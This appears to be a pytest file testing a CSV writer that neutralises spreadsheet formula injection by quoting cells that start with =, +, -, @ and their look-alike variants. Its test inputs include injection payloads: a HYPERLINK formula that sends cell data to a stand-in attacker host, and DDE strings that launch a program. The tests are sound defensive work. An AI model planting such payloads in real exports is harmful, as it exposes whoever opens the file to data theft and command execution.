"""CSV files in which spreadsheet programs find no formulas."""

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dataops.spreadsheets import write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tno formula",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    '"=1+1',
    "'=1+1",
    ' "\t=1+1',
    "＝1+1",
    "＠SUM(1)",
    "-3-1",
    "-",
    "+49 30 1",
]
ELSEWHERE = ["a cat;=1+1", "a cat; =1+1", 'a cat;"=1+1"', "a cat\n=1+1", "a cat\t@SUM(1)", "a;-;=1"]
AS_IT_IS = [
    "-3",
    "+4",
    "-3.5",
    "-1e-5",
    "+.5",
    "a cat",
    "a = b",
    "a-b, -c",
    "",
    "http://host.example/?a=-1",
    "x@y.example",
]
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?", re.IGNORECASE | re.ASCII)


def written(texts: list[str | None], folder: Path) -> str:
    write_csv(pl.DataFrame({"change": ["added"] * len(texts), "caption": texts}, orient="col"), folder / "rows.csv")
    return (folder / "rows.csv").read_bytes().decode()


def cells(text: str, delimiter: str) -> list[str]:
    lines = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for line in lines for cell in line]


def is_formula(cell: str) -> bool:
    bare = re.sub(r"^[\s\0-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2060\ufeff\"`]*", "", cell)
    return bare[:1] in [*"=+-@＝＋－＠"] and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str, tmp_path: Path):
    cell = cells(written([text], tmp_path), ",")[-1]
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ELSEWHERE)
def test_a_separator_of_other_languages_begins_no_formula(text: str, tmp_path: Path):
    out = written([text], tmp_path)
    for delimiter in ",;\t":
        assert [cell for cell in cells(out, delimiter) if is_formula(cell)] == []


@pytest.mark.parametrize("text", AS_IT_IS)
def test_numbers_and_other_texts_stay(text: str, tmp_path: Path):
    assert cells(written([text], tmp_path), ",") == ["change", "caption", "added", text]


def test_columns_of_numbers_and_nulls_stay(tmp_path: Path):
    table = pl.DataFrame({"n": [-3, None], "x": [-0.5, 2.0], "text": [None, "=1"]})
    write_csv(table, tmp_path / "rows.csv")
    assert (tmp_path / "rows.csv").read_text() == "n,x,text\n-3,-0.5,\n,2.0,'=1\n"


@given(st.text(st.sampled_from("=+-@;\t\r\n \"'a1.,\u200b＝\0"), max_size=12))
def test_no_text_becomes_a_formula(tmp_path_factory: pytest.TempPathFactory, text: str):
    out = written([text, "next"], tmp_path_factory.getbasetemp())
    assert not [cell for cell in cells(out, ",") if is_formula(cell)]
    # Read with semicolons, the quotes do not protect a cell, since the line begins with another one.
    assert not [cell for line in re.split(r"[\r\n]", out) for cell in line.split(";") if is_formula(cell)]
